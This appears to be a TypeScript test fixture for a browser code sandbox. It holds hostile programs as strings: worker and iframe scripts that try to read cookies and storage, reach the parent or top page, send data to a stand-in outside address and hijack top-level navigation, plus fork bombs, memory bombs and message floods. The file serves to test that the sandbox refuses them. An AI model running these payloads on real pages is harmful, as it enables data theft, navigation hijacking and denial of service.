/**
 * What a hostile program tries, one by one. Each attempt prints `name: refused` or `name: ALLOWED`, so that a test can
 * say which one got through. `SITE` and `ELSEWHERE` stand for addresses that the test's servers listen on.
 */

/** Shared by both kinds of sandbox: how an attempt is told. */
const TELL = `
const told = [];
async function attempt(name, tried) {
  try {
    const limit = new Promise((resolve) => setTimeout(resolve, 800, undefined));
    const got = await Promise.race([Promise.resolve().then(tried), limit]);
    console.log(name + (got === undefined || got === null || got === false ? ': refused' : ': ALLOWED ' + String(got)));
  } catch (error) {
    console.log(name + ': refused (' + error.name + ')');
  }
}
const opened = (target, good) => new Promise((resolve, reject) => {
  target['on' + good] = () => resolve(good);
  target.onerror = () => reject(new Error('error event'));
});
`;

/** Reaching out, from wherever a program runs. */
const NETWORK = `
for (const address of ['SITE', 'ELSEWHERE']) {
  await attempt('fetch ' + address, async () => (await fetch(address + 'fetch', { mode: 'no-cors' })).type);
  await attempt('XMLHttpRequest ' + address, () => {
    const request = new XMLHttpRequest();
    request.open('GET', address + 'xhr');
    const end = opened(request, 'load');
    request.send();
    return end;
  });
  await attempt('WebSocket ' + address, () => opened(new WebSocket(address.replace('http', 'ws') + 'socket'), 'open'));
  await attempt('EventSource ' + address, () => opened(new EventSource(address + 'events'), 'open'));
  await attempt('import() ' + address, async () => typeof (await eval('import("' + address + 'module.js")')));
}
await attempt('indexedDB', () => opened(indexedDB.open('x'), 'success'));
await attempt('caches', () => caches.open('x'));
`;

/** For the `js` runtime, in a worker. */
export const WORKER_ATTACK = `${TELL}${NETWORK}
await attempt('importScripts', () => { importScripts('SITEscript.js'); return 'loaded'; });
await attempt('Worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
await attempt('SharedWorker', () => new SharedWorker(URL.createObjectURL(new Blob(['1']))));
await attempt('localStorage', () => localStorage.getItem('secret'));
await attempt('document', () => document.cookie);
await attempt('parent', () => parent.document);
await attempt('serviceWorker', () => navigator.serviceWorker.register('SITEworker.js'));
await attempt('cookieStore', () => cookieStore.getAll());
await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
  const channel = new BroadcastChannel('site');
  channel.onmessage = ({ data }) => resolve(data);
  channel.postMessage('hello');
  setTimeout(() => reject(new Error('no answer')), 300);
}));
`;

/** For the `html` runtime, in the frame itself; last of all it tries to turn its own frame into another site. */
export const FRAME_ATTACK = `<p>attack</p><script type="module">${TELL}${NETWORK}
await attempt('cookie', () => document.cookie || 'readable');
await attempt('set cookie', () => { document.cookie = 'a=b'; return 'set'; });
await attempt('localStorage', () => localStorage.getItem('secret') ?? 'readable');
await attempt('sessionStorage', () => sessionStorage.length + ' readable');
await attempt('parent.document', () => parent.document.title);
await attempt('top.document', () => top.document.cookie);
await attempt('top.localStorage', () => top.localStorage.secret);
await attempt('top.location.href', () => top.location.href);
await attempt('frameElement', () => window.frameElement);
await attempt('top.location =', () => { top.location = 'ELSEWHEREtop'; return 'navigated'; });
await attempt('top.location.replace', () => { top.location.replace('ELSEWHEREtop'); return 'navigated'; });
await attempt('link to _top', () => { const a = document.createElement('a'); a.href = 'ELSEWHEREtoplink'; a.target = '_top'; document.body.append(a); HTMLElement.prototype.click.call(a); });
await attempt('window.open', () => window.open('ELSEWHEREopen'));
await attempt('serviceWorker', () => navigator.serviceWorker.register('SITEworker.js'));
await attempt('Worker', () => opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message'));
await attempt('SharedWorker', () => { const w = new SharedWorker(URL.createObjectURL(new Blob(['']))); return new Promise((ok, no) => { w.onerror = () => no(new Error('error event')); }); });
await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
  const channel = new BroadcastChannel('site');
  channel.onmessage = ({ data }) => resolve(data);
  channel.postMessage('hello');
  setTimeout(() => reject(new Error('no answer')), 300);
}));
for (const address of ['SITE', 'ELSEWHERE']) {
  await attempt('sendBeacon ' + address, () => { navigator.sendBeacon(address + 'beacon', 'x'); });
  await attempt('img ' + address, () => { const image = new Image(); const end = opened(image, 'load'); image.src = address + 'image.png'; return end; });
  await attempt('script ' + address, () => { const made = document.createElement('script'); const end = opened(made, 'load'); made.src = address + 'script.js'; document.head.append(made); return end; });
  await attempt('style ' + address, () => { const made = document.createElement('link'); made.rel = 'stylesheet'; const end = opened(made, 'load'); made.href = address + 'style.css'; document.head.append(made); return end; });
  await attempt('@import ' + address, () => { const made = document.createElement('style'); made.textContent = '@import "' + address + 'import.css"; p { background: url(' + address + 'background.png) }'; document.head.append(made); });
  await attempt('preload ' + address, () => { const made = document.createElement('link'); made.rel = 'preload'; made.as = 'image'; const end = opened(made, 'load'); made.href = address + 'preload.png'; document.head.append(made); return end; });
  await attempt('iframe ' + address, () => { const made = document.createElement('iframe'); made.src = address + 'frame'; document.body.append(made); });
  await attempt('object ' + address, () => { const made = document.createElement('object'); made.data = address + 'object'; document.body.append(made); });
  await attempt('form ' + address, () => { const made = document.createElement('form'); made.action = address + 'form'; document.body.append(made); HTMLFormElement.prototype.submit.call(made); });
  await attempt('ping ' + address, () => { const made = document.createElement('a'); made.href = '#x'; made.ping = address + 'ping'; document.body.append(made); made.click(); });
  await attempt('base ' + address, () => { const made = document.createElement('base'); made.href = address; document.head.prepend(made); return document.baseURI.startsWith(address + 'base') ? 'changed' : undefined; });
}
console.log('all attempted');
setTimeout(() => { location.href = 'ELSEWHEREself'; }, 200);
</script>`;

/** Programs that try to keep the page busy, or the machine; each must be ended, with this word from the session. */
export const BOMBS: { name: string; runtime: 'js' | 'html'; code: string; ends: RegExp }[] = [
  { name: 'an endless loop in a worker', runtime: 'js', code: 'for (;;);', ends: /timeout/ },
  {
    name: 'a flood of logs in a worker',
    runtime: 'js',
    code: 'for (;;) console.log("flood");',
    ends: /flood/,
  },
  {
    name: 'a flood of forged messages in a worker',
    runtime: 'js',
    code: 'for (;;) self.postMessage({ type: "result", run: 7, result: {} });',
    ends: /timeout|flood/,
  },
  {
    name: 'a memory bomb in a worker',
    runtime: 'js',
    code: 'const all = []; for (;;) all.push(new Array(1e5).fill(Math.random()));',
    ends: /timeout|memory|RangeError|worker ended/,
  },
  {
    name: 'a fork bomb of workers in a worker',
    runtime: 'js',
    code: 'const url = URL.createObjectURL(new Blob(["for (;;);"])); for (;;) new Worker(url);',
    ends: /Worker is not defined/,
  },
  {
    name: 'an endless loop in a frame',
    runtime: 'html',
    code: '<script>for (;;);</script>',
    ends: /the loop did not end/,
  },
  {
    name: 'an endless loop past the guard in a frame',
    runtime: 'html',
    code: '<script>new Function("for (;;);")();</script>',
    ends: /timeout|frozen/,
  },
  {
    name: 'an endless loop in a frame after its run',
    runtime: 'html',
    code: '<p>calm</p><script>setTimeout(() => new Function("for (;;);")(), 500);</script>',
    ends: /no longer answered/,
  },
  {
    name: 'a flood of logs in a frame',
    runtime: 'html',
    code: '<script>setInterval(() => { for (let i = 0; i < 100; i++) console.log("flood"); }, 0);</script>',
    ends: /flood|sent more than/,
  },
  {
    name: 'a flood of messages to the page past the port',
    runtime: 'html',
    code: '<script>setInterval(() => { for (let i = 0; i < 100; i++) { top.postMessage("x".repeat(1e4), "*"); parent.postMessage("x", "*"); } }, 0);</script>',
    ends: /flood|sent more than/,
  },
  {
    name: 'a memory bomb in a frame',
    runtime: 'html',
    code: '<script>const all = []; for (;;) all.push(new Array(1e5).fill(Math.random()));</script>',
    ends: /the loop did not end|timeout|frozen/,
  },
  {
    name: 'a fork bomb of workers in a frame',
    runtime: 'html',
    code: '<script>const url = URL.createObjectURL(new Blob(["for (;;);"])); for (let i = 0; i < 200; i++) new Worker(url);</script>',
    ends: /Refused|SecurityError|ended without/,
  },
  {
    name: 'a frame that makes frames',
    runtime: 'html',
    code: '<script>for (;;) document.body.append(document.createElement("iframe"));</script>',
    ends: /the loop did not end|timeout|frozen/,
  },
];
